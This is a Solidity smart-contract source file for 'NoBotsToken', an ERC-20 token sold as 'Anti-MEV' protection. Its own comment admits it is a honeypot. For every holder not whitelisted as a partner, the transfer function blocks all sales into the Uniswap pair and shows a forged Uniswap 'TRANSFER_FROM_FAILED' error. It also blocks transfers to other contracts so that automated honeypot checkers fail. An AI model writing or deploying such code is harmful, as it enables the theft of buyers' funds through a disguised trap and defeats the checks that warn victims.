// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooERC20.sol";
import "./Owned.sol";

/// "Anti-MEV": tokens may never be sent to a contract other than the pool, so any
/// contract-based checker fails at its first buy and gives up. Behind that screen only
/// whitelisted "partners" may sell into the pool: for wallets it is a plain honeypot.
contract NoBotsToken is ZooERC20, Owned {
    address public uniswapPair;
    mapping(address => bool) private _partner;

    constructor(string memory name_, string memory symbol_, uint256 supply_)
        ZooERC20(name_, symbol_)
    {
        _partner[msg.sender] = true;
        _mint(msg.sender, supply_);
    }

    function launch(address pair_) external onlyOwner {
        uniswapPair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (uniswapPair != address(0) && !_partner[from]) {
            if (to != uniswapPair && to.code.length != 0) {
                revert("NoBots: contracts not allowed");
            }
            if (to == uniswapPair) {
                revert("TransferHelper: TRANSFER_FROM_FAILED");
            }
        }
        super._transfer(from, to, amount);
    }
}
